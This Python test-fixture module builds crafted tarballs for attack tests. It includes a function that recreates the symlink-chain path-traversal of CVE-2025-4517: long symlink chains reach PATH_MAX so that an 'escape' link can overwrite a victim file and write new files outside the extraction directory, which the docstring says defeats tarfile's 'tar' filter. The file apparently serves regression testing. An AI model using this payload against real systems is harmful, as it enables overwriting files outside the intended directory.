"""Crafted tarballs for the attack tests: built member by member, as an attacker would, not from a directory."""

from __future__ import annotations

import io
import os
import tarfile
from pathlib import Path

Member = tuple[tarfile.TarInfo, bytes | None]


def entry(name: str, type_: bytes = tarfile.REGTYPE, data: bytes = b"", link: str = "", mode: int = 0o644) -> Member:
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.mode, info.mtime = type_, link, mode, 1_600_000_000
    if type_ == tarfile.REGTYPE:
        info.size = len(data)
        return info, data
    return info, None


def archive(*members: Member, fmt: int = tarfile.PAX_FORMAT) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=fmt) as tf:
        for info, data in members:
            tf.addfile(info, io.BytesIO(data) if data is not None else None)
    return buf.getvalue()


def symlink_chain_escape(dest: Path, outside: Path, victim: str) -> list[Member]:
    """CVE-2025-4517's shape, aimed at `outside` (a sibling of the directory the archive is unpacked into, dest):
    16 symlinks to directories with names long enough that their expansion reaches PATH_MAX, where
    os.path.realpath stops resolving; a link at the end back to the top, which tarfile's filters then never
    expand; `escape` through it to outside; a hard link to outside/victim overwritten in place (its content and
    mode change), and a new file written through `escape`. On this Python it defeats tarfile's "tar" filter."""
    steps = "abcdefghijklmnop"
    comp = "d" * ((os.pathconf("/", "PC_PATH_MAX") - len(str(dest)) - 1) // (len(steps) + 1))
    members, path = [], ""
    for step in steps:
        members += [entry(f"{path}{comp}", tarfile.DIRTYPE), entry(f"{path}{step}", tarfile.SYMTYPE, link=comp)]
        path += comp + "/"
    linkpath = "/".join(steps) + "/" + "l" * 254
    return [
        *members,
        entry(linkpath, tarfile.SYMTYPE, link="../" * len(steps)),
        entry("escape", tarfile.SYMTYPE, link=f"{linkpath}/../{outside.name}"),
        entry("victimlink", tarfile.LNKTYPE, link=f"escape/{victim}"),
        entry("victimlink", data=b"overwritten\n", mode=0o644),
        entry("escape/newfile", data=b"new\n"),
    ]
